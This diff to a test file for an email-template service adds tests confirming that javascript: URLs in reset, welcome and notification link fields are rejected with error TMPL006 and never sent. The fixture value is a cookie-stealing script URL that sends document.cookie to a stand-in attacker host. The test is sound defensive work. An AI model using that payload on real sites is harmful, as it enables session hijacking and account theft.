@@ -312,6 +312,19 @@ describe('HTML escaping of template data', () => {
   });
 });
 
+describe('script URLs in links', () => {
+  it.each([
+    ['password-reset', 'resetLink'],
+    ['welcome', 'ctaUrl'],
+    ['notification', 'actionUrl'],
+  ])('%s: a javascript: URL in %s is tracked failed TMPL006 and never reaches SES', async (name, field) => {
+    const data = { ...(starterTemplate(name).sampleData as Record<string, unknown>), [field]: 'javascript:fetch("//evil.example/"+document.cookie)' };
+    const { record, sent } = await send({ templateName: name, templateData: data });
+    expect(record).toMatchObject({ status: 'failed', errorCode: 'TMPL006' });
+    expect(sent).toHaveLength(0);
+  });
+});
+
 describe('the template bucket refuses plain HTTP', () => {
   it('in the stack template and in the installer, with the same statement for the bucket and its objects', () => {
     const template = loadTemplate();
